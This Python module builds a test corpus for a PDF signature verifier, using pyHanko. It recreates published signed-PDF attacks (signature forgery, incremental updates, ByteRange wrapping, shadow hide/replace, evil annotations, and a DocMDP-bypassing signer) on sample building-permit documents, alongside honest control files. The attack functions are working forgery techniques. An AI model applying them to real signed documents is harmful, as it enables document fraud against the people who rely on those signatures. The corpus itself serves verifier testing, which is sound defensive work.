# mypy: disable-error-code="no-untyped-call"
"""Build the corpus of attacked (and of honest) signed PDFs used by tests/verify.

Each attack of the domain brief §4 (CCS 2019 "1 Trillion Dollar Refund", NDSS 2021
shadow attacks, IEEE S&P 2021 certification attacks) is rebuilt here from first
principles on small PDFs that we sign ourselves, so that the corpus needs no download
and every file documents how it was made:

* ``usf_*`` universal signature forgery: the signature dictionary lies about what was
  signed (no /Contents, no /ByteRange, a null or zero signature, a CMS blob lifted from
  another document, an empty byte range);
* ``isa_*`` incremental saving: content appended after signing (new page content, new
  page, catalog change, an update without cross-reference section);
* ``swa_*`` signature wrapping: the /ByteRange is rewritten so the signed bytes are
  not where the viewer reads;
* ``shadow_hide``, ``shadow_replace``, ``shadow_hide_and_replace``: content prepared
  before signing and revealed by a harmless-looking later update (NDSS 2021);
* ``eaa_*`` evil annotation and ``ssa_*`` sneaky signature: changes to a certified
  document that its DocMDP level seems to permit (S&P 2021).

Run ``PYTHONPATH=src python tests/verify/verify_corpus.py OUTDIR`` to write every file
(and the trust anchor ``root.pem``) to a folder and inspect it with other tools.
"""

from __future__ import annotations

import io
import re
import sys
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from cryptography.hazmat.primitives.serialization import Encoding
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.writer import PageObject, PdfFileWriter
from pyhanko.sign import fields, signers

_DER = Encoding.DER
_FONT = generic.DictionaryObject(
    {
        pdf_name("/Type"): pdf_name("/Font"),
        pdf_name("/Subtype"): pdf_name("/Type1"),
        pdf_name("/BaseFont"): pdf_name("/Helvetica"),
    }
)


def _text(s: str, y: int = 700) -> bytes:
    return f"BT /F1 14 Tf 72 {y} Td ({s}) Tj ET".encode("latin-1")


def base_pdf(text: str = "Permis de construire PC-2026-0001", *, shadow: bool = False) -> bytes:
    """A one-page PDF; ``shadow`` adds the hidden material the shadow attacks need.

    With ``shadow``: the page has a second content stream painting a white box over a
    line reading "REFUSE" (hide), a text field showing "ACCORDE" (replace), and an
    unreferenced second catalog whose page says "PERMIS ANNULE" (hide-and-replace).
    """
    w = PdfFileWriter(stream_xrefs=False)
    resources = generic.DictionaryObject(
        {pdf_name("/Font"): generic.DictionaryObject({pdf_name("/F1"): w.add_object(_FONT)})}
    )
    main = w.add_object(generic.StreamObject(stream_data=_text(text)))
    contents: Any = main
    if shadow:
        hidden = w.add_object(generic.StreamObject(stream_data=_text("DECISION: REFUSE", 650)))
        overlay = w.add_object(generic.StreamObject(stream_data=b"1 g 60 630 400 50 re f"))
        contents = generic.ArrayObject([main, hidden, overlay])
    page = PageObject(contents=contents, media_box=[0, 0, 595, 842], resources=resources)
    w.insert_page(page)
    if shadow:
        page_ref = w.root["/Pages"]["/Kids"][0]
        ap = w.add_object(
            generic.StreamObject(
                {
                    pdf_name("/Type"): pdf_name("/XObject"),
                    pdf_name("/Subtype"): pdf_name("/Form"),
                    pdf_name("/BBox"): generic.ArrayObject(
                        map(generic.NumberObject, [0, 0, 200, 20])
                    ),
                    pdf_name("/Resources"): resources,
                },
                stream_data=b"BT /F1 12 Tf 2 5 Td (ACCORDE) Tj ET",
            )
        )
        tf = w.add_object(
            generic.DictionaryObject(
                {
                    pdf_name("/Type"): pdf_name("/Annot"),
                    pdf_name("/Subtype"): pdf_name("/Widget"),
                    pdf_name("/FT"): pdf_name("/Tx"),
                    pdf_name("/T"): generic.TextStringObject("decision"),
                    pdf_name("/V"): generic.TextStringObject("ACCORDE"),
                    pdf_name("/Rect"): generic.ArrayObject(
                        map(generic.NumberObject, [72, 560, 272, 580])
                    ),
                    pdf_name("/P"): page_ref,
                    pdf_name("/AP"): generic.DictionaryObject({pdf_name("/N"): ap}),
                }
            )
        )
        page_obj = page_ref.get_object()
        page_obj[pdf_name("/Annots")] = generic.ArrayObject([tf])
        acroform = w.add_object(
            generic.DictionaryObject({pdf_name("/Fields"): generic.ArrayObject([tf])})
        )
        w.root[pdf_name("/AcroForm")] = acroform
        # the shadow document: a complete catalog nobody references (yet)
        s_content = w.add_object(generic.StreamObject(stream_data=_text("PERMIS ANNULE")))
        s_pages = w.add_object(generic.DictionaryObject({pdf_name("/Type"): pdf_name("/Pages")}))
        s_page = w.add_object(
            PageObject(contents=s_content, media_box=[0, 0, 595, 842], resources=resources)
        )
        s_page.get_object()[pdf_name("/Parent")] = s_pages
        s_pages.get_object()[pdf_name("/Kids")] = generic.ArrayObject([s_page])
        s_pages.get_object()[pdf_name("/Count")] = generic.NumberObject(1)
        w.add_object(
            generic.DictionaryObject(
                {
                    pdf_name("/Type"): pdf_name("/Catalog"),
                    pdf_name("/Pages"): s_pages,
                    pdf_name("/AcroForm"): acroform,
                }
            )
        )
    out = io.BytesIO()
    w.write(out)
    return out.getvalue()


@dataclass
class Signing:
    """What the corpus needs to sign: a pyHanko signer (our test PKI's signer)."""

    signer: signers.Signer

    def sign(
        self,
        pdf: bytes,
        field: str = "Signature1",
        *,
        certify: bool = False,
        docmdp: fields.MDPPerm = fields.MDPPerm.FILL_FORMS,
        box: tuple[int, int, int, int] | None = None,
        ignore_docmdp: bool = False,
    ) -> bytes:
        """Sign (PAdES B-B) with a new field, optionally certifying or visible.

        ``ignore_docmdp`` plays the attacker: it signs even where the author's
        certification forbids it (pyHanko refuses by default).
        """
        w = IncrementalPdfFileWriter(io.BytesIO(pdf), strict=False)
        meta = signers.PdfSignatureMetadata(
            field_name=field,
            subfilter=fields.SigSeedSubFilter.PADES,
            certify=certify,
            docmdp_permissions=docmdp,
        )
        spec = fields.SigFieldSpec(field, box=box) if box else None
        signer_cls = _NoDocMdpCheck if ignore_docmdp else signers.PdfSigner
        pdf_signer = signer_cls(meta, signer=self.signer, new_field_spec=spec)
        out = pdf_signer.sign_pdf(w)
        return bytes(out.getvalue())


class _NoDocMdpCheck(signers.PdfSigner):
    def _enforce_certification_constraints(self, reader: Any) -> None:
        return None


# ------------------------------------------------------------------ byte surgery


def _same_length(data: bytes, old: bytes, new: bytes, count: int = 1) -> bytes:
    if len(new) < len(old):
        new = new + b" " * (len(old) - len(new))
    assert len(new) == len(old), (old, new)
    assert old in data, old
    return data.replace(old, new, count)


def _byte_range(data: bytes) -> tuple[re.Match[bytes], list[int]]:
    m = re.search(rb"/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]", data)
    assert m is not None
    return m, [int(m.group(i)) for i in range(1, 5)]


def _contents_span(data: bytes) -> tuple[int, int]:
    _, (_, len1, start2, _) = _byte_range(data)
    return len1, start2


def _append_update(data: bytes, edit: Callable[[IncrementalPdfFileWriter], None]) -> bytes:
    w = IncrementalPdfFileWriter(io.BytesIO(data), strict=False)
    edit(w)
    out = io.BytesIO()
    w.write(out)
    return out.getvalue()


def _first_page(w: IncrementalPdfFileWriter) -> Any:
    return w.root["/Pages"]["/Kids"][0].get_object()


def _page_ref(w: IncrementalPdfFileWriter) -> Any:
    return w.root["/Pages"].raw_get("/Kids")[0] if False else w.root["/Pages"]["/Kids"].raw_get(0)


# ------------------------------------------------------------------ the attacks


def usf_no_contents(s: Signing) -> bytes:
    data = s.sign(base_pdf())
    return _same_length(data, b"/Contents <", b"/Contentz <")


def usf_no_byterange(s: Signing) -> bytes:
    data = s.sign(base_pdf())
    return _same_length(data, b"/ByteRange", b"/ByteRangz")


def usf_null_contents(s: Signing) -> bytes:
    data = s.sign(base_pdf())
    a, b = _contents_span(data)
    return data[:a] + b"null" + b" " * (b - a - 4) + data[b:]


def usf_zero_signature(s: Signing) -> bytes:
    data = s.sign(base_pdf())
    a, b = _contents_span(data)
    return data[:a] + b"<" + b"0" * (b - a - 2) + b">" + data[b:]


def usf_empty_byte_range(s: Signing) -> bytes:
    data = s.sign(base_pdf())
    m, _ = _byte_range(data)
    return _same_length(data, m.group(0), b"/ByteRange [0 0 0 0]")


def usf_foreign_cms(s: Signing) -> bytes:
    """The signature value of another (genuine) document pasted into this one."""
    donor = s.sign(base_pdf("Another document entirely"))
    target = s.sign(base_pdf("Permis de construire PC-2026-9999"))
    a, b = _contents_span(donor)
    c, d = _contents_span(target)
    blob = donor[a:b]
    if len(blob) > d - c:
        blob = blob[: d - c - 1] + b">"
    blob = blob[:-1] + b"0" * (d - c - len(blob)) + b">"
    return target[:c] + blob + target[d:]


def usf_unsupported_subfilter(s: Signing) -> bytes:
    data = s.sign(base_pdf())
    return _same_length(data, b"/ETSI.CAdES.detached", b"/ETSI.CAdES.detachex")


def isa_new_content(s: Signing) -> bytes:
    data = s.sign(base_pdf())

    def edit(w: IncrementalPdfFileWriter) -> None:
        page = _first_page(w)
        page[pdf_name("/Contents")] = w.add_object(
            generic.StreamObject(stream_data=_text("Permis ANNULE - 0 MAD"))
        )
        w.update_container(page)

    return _append_update(data, edit)


def isa_new_page(s: Signing) -> bytes:
    data = s.sign(base_pdf())

    def edit(w: IncrementalPdfFileWriter) -> None:
        page = _first_page(w)
        new = PageObject(
            contents=w.add_object(generic.StreamObject(stream_data=_text("Annexe falsifiee"))),
            media_box=[0, 0, 595, 842],
            resources=page["/Resources"],
        )
        w.insert_page(new)

    return _append_update(data, edit)


def isa_open_action(s: Signing) -> bytes:
    data = s.sign(base_pdf())

    def edit(w: IncrementalPdfFileWriter) -> None:
        w.root[pdf_name("/OpenAction")] = generic.DictionaryObject(
            {
                pdf_name("/S"): pdf_name("/JavaScript"),
                pdf_name("/JS"): generic.TextStringObject("app.alert('x')"),
            }
        )
        w.update_root()

    return _append_update(data, edit)


def isa_without_xref(s: Signing) -> bytes:
    """Objects redefined after %%EOF with no xref section: viewers 'repair' them in."""
    data = s.sign(base_pdf())
    return (
        data
        + b"\n4 0 obj\n<< /Length 30 >>\nstream\nBT /F1 14 Tf (ANNULE) Tj ET\nendstream\nendobj\n"
    )


def swa_byte_range_shifted(s: Signing) -> bytes:
    """The signed range is moved: the tail of the /Contents gap becomes "signed" data.

    The file keeps its length (so the xref stays valid) but the /ByteRange now claims a
    shorter gap, whose freed bytes carry an injected object (CCS 2019, SWA).
    """
    data = s.sign(base_pdf())
    m, (_, len1, start2, len2) = _byte_range(data)
    payload = b"> /Injected (PERMIS ANNULE) "
    k = len(payload)
    new_range = f"/ByteRange [0 {len1} {start2 - k} {len2 + k}]".encode()
    data2 = _same_length(data, m.group(0), new_range)
    assert set(data2[start2 - k : start2 - 1]) == {ord("0")}, "padding expected"
    return data2[: start2 - k] + payload + data2[start2:]


def swa_overlapping_range(s: Signing) -> bytes:
    data = s.sign(base_pdf())
    m, (_, len1, _start2, len2) = _byte_range(data)
    new_range = f"/ByteRange [0 {len1} {len1 - 100} {len2}]".encode()
    return _same_length(data, m.group(0), new_range)


def swa_range_past_eof(s: Signing) -> bytes:
    data = s.sign(base_pdf())
    m, (_, len1, start2, len2) = _byte_range(data)
    new_range = f"/ByteRange [0 {len1} {start2} {len2 + 5000}]".encode()
    return _same_length(data, m.group(0), new_range)


def shadow_hide(s: Signing) -> bytes:
    """Signed with a white box over "REFUSE"; the update drops the box (NDSS 2021, hide)."""
    data = s.sign(base_pdf(shadow=True))

    def edit(w: IncrementalPdfFileWriter) -> None:
        page = _first_page(w)
        contents = page["/Contents"]
        page[pdf_name("/Contents")] = generic.ArrayObject(
            [contents.raw_get(0), contents.raw_get(1)]
        )
        w.update_container(page)

    return _append_update(data, edit)


def shadow_replace(s: Signing) -> bytes:
    """Signed showing "ACCORDE" in a text field; the update rewrites it (replace)."""
    data = s.sign(base_pdf(shadow=True))

    def edit(w: IncrementalPdfFileWriter) -> None:
        field = w.root["/AcroForm"]["/Fields"][0]
        field[pdf_name("/V")] = generic.TextStringObject("REFUSE")
        ap = field["/AP"]["/N"]
        new_ap = generic.StreamObject(
            {
                pdf_name("/Type"): pdf_name("/XObject"),
                pdf_name("/Subtype"): pdf_name("/Form"),
                pdf_name("/BBox"): ap["/BBox"],
                pdf_name("/Resources"): ap["/Resources"],
            },
            stream_data=b"BT /F1 12 Tf 2 5 Td (REFUSE) Tj ET",
        )
        field["/AP"][pdf_name("/N")] = w.add_object(new_ap)
        w.update_container(field)

    return _append_update(data, edit)


def shadow_hide_and_replace(s: Signing) -> bytes:
    """The update is only a new xref + trailer pointing /Root at the shadow catalog."""
    data = s.sign(base_pdf(shadow=True))
    # find the shadow catalog: the /Catalog object that is not the trailer's /Root
    root_m = re.search(rb"/Root (\d+) 0 R", data)
    assert root_m is not None
    real_root = int(root_m.group(1))
    cats = [int(n) for n in re.findall(rb"(\d+) 0 obj\s*<<\s*/Type /Catalog", data)]
    shadow = next(n for n in cats if n != real_root)
    size_m = re.findall(rb"/Size (\d+)", data)
    prev = int(re.findall(rb"startxref\s+(\d+)", data)[-1])
    offset = len(data) + 1
    update = (
        b"\nxref\n0 1\n0000000000 65535 f \ntrailer\n"
        + f"<< /Size {int(size_m[-1])} /Root {shadow} 0 R /Prev {prev} >>\n".encode()
        + f"startxref\n{offset}\n%%EOF\n".encode()
    )
    return data + update


def _annot(w: IncrementalPdfFileWriter, subtype: str, text: str) -> None:
    page = _first_page(w)
    annot = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Annot"),
            pdf_name("/Subtype"): pdf_name(subtype),
            pdf_name("/Rect"): generic.ArrayObject(map(generic.NumberObject, [60, 680, 500, 730])),
            pdf_name("/Contents"): generic.TextStringObject(text),
            pdf_name("/DA"): generic.TextStringObject("/Helv 18 Tf 1 0 0 rg"),
        }
    )
    ref = w.add_object(annot)
    annots = page.get("/Annots")
    arr = generic.ArrayObject(list(annots) if annots is not None else [])
    arr.append(ref)
    page[pdf_name("/Annots")] = arr
    w.update_container(page)


def eaa_freetext_p2(s: Signing) -> bytes:
    """Certified (form filling allowed); a FreeText annotation paints over the text."""
    data = s.sign(base_pdf(), "Certification", certify=True, docmdp=fields.MDPPerm.FILL_FORMS)
    return _append_update(data, lambda w: _annot(w, "/FreeText", "PERMIS ANNULE"))


def eaa_stamp_p3(s: Signing) -> bytes:
    """Certified with annotations allowed; a Stamp annotation changes what is seen."""
    data = s.sign(base_pdf(), "Certification", certify=True, docmdp=fields.MDPPerm.ANNOTATE)
    return _append_update(data, lambda w: _annot(w, "/Stamp", "PERMIS ANNULE"))


def ssa_visible_signature(s: Signing) -> bytes:
    """Certified (P2); a new *visible* signature field whose appearance covers content."""
    data = s.sign(base_pdf(), "Certification", certify=True, docmdp=fields.MDPPerm.FILL_FORMS)
    return s.sign(data, "Sneaky", box=(60, 680, 500, 730))


def cert_no_changes_then_signed(s: Signing) -> bytes:
    """Certified with no changes allowed (P1), then signed again."""
    data = s.sign(base_pdf(), "Certification", certify=True, docmdp=fields.MDPPerm.NO_CHANGES)
    return s.sign(data, "Second", ignore_docmdp=True)


def meta_info_title(s: Signing) -> bytes:
    """The update only rewrites /Info: the title now reads "PERMIS ANNULE"."""
    data = s.sign(base_pdf())

    def edit(w: IncrementalPdfFileWriter) -> None:
        w.set_info(
            generic.DictionaryObject(
                {pdf_name("/Title"): generic.TextStringObject("PERMIS ANNULE")}
            )
        )

    return _append_update(data, edit)


def meta_xmp_title(s: Signing) -> bytes:
    """The update adds a catalog /Metadata XMP packet titled "PERMIS ANNULE".

    pyHanko's writer produces the packet from its document metadata; the /Info
    dictionary (which it then only updates where keys exist) keeps no title.
    """
    data = s.sign(base_pdf())

    def edit(w: IncrementalPdfFileWriter) -> None:
        w.document_meta.title = "PERMIS ANNULE"
        # a /Metadata entry makes the writer emit XMP instead of a new /Info title
        placeholder = generic.StreamObject(stream_data=b"")
        w.root[pdf_name("/Metadata")] = w.add_object(placeholder)
        w.update_root()

    return _append_update(data, edit)


def annot_after_approval(s: Signing) -> bytes:
    """Approval signature (no certification); a Stamp annotation added afterwards.

    ISO 32000 permits it, but what the reader sees is no longer what was signed."""
    data = s.sign(base_pdf())
    return _append_update(data, lambda w: _annot(w, "/Stamp", "PERMIS ANNULE"))


ATTACKS: dict[str, Callable[[Signing], bytes]] = {
    f.__name__: f
    for f in (
        usf_no_contents,
        usf_no_byterange,
        usf_null_contents,
        usf_zero_signature,
        usf_empty_byte_range,
        usf_foreign_cms,
        usf_unsupported_subfilter,
        isa_new_content,
        isa_new_page,
        isa_open_action,
        isa_without_xref,
        swa_byte_range_shifted,
        swa_overlapping_range,
        swa_range_past_eof,
        shadow_hide,
        shadow_replace,
        shadow_hide_and_replace,
        eaa_freetext_p2,
        eaa_stamp_p3,
        ssa_visible_signature,
        cert_no_changes_then_signed,
        meta_info_title,
        meta_xmp_title,
        annot_after_approval,
    )
}


# ------------------------------------------------------------------ honest files


def honest_single(s: Signing) -> bytes:
    return s.sign(base_pdf())


def honest_two_signatures(s: Signing) -> bytes:
    return s.sign(s.sign(base_pdf()), "Signature2")


def honest_certified_then_invisible_signature(s: Signing) -> bytes:
    data = s.sign(base_pdf(), "Certification", certify=True, docmdp=fields.MDPPerm.FILL_FORMS)
    return s.sign(data, "Approval")


def honest_shadow_material_untouched(s: Signing) -> bytes:
    """The shadow-prepared file, signed and not changed: nothing to flag yet."""
    return s.sign(base_pdf(shadow=True))


HONEST: dict[str, Callable[[Signing], bytes]] = {
    f.__name__: f
    for f in (
        honest_single,
        honest_two_signatures,
        honest_certified_then_invisible_signature,
        honest_shadow_material_untouched,
    )
}


def signer_for(identity: Any) -> signers.SimpleSigner:
    """A pyHanko signer for a ``rokhas_sdk.testing.pki.Identity`` (the attacker's tool)."""
    from asn1crypto import keys, x509
    from pyhanko_certvalidator.registry import SimpleCertificateStore

    return signers.SimpleSigner(
        signing_cert=x509.Certificate.load(identity.certificate_der()),
        signing_key=keys.PrivateKeyInfo.load(identity.key_der()),
        cert_registry=SimpleCertificateStore.from_certs(
            [x509.Certificate.load(c.public_bytes(_DER)) for c in identity.chain]
        ),
    )


def main(argv: list[str]) -> None:  # pragma: no cover - manual tool
    """Write the corpus and the trust anchor to ``argv[0]``."""
    from rokhas_sdk.testing.pki import TestPKI

    out = Path(argv[0] if argv else "verify-corpus")
    out.mkdir(parents=True, exist_ok=True)
    pki = TestPKI.create(key_type="ecdsa")
    signing = Signing(signer_for(pki.identity("president", "ecdsa")))
    (out / "root.pem").write_bytes(pki.root.certificate_pem())
    for name, build in {**ATTACKS, **HONEST}.items():
        (out / f"{name}.pdf").write_bytes(build(signing))
    print(f"wrote {len(ATTACKS) + len(HONEST)} files to {out}")


if __name__ == "__main__":  # pragma: no cover
    sys.path.insert(0, str(Path(__file__).parent))
    main(sys.argv[1:])
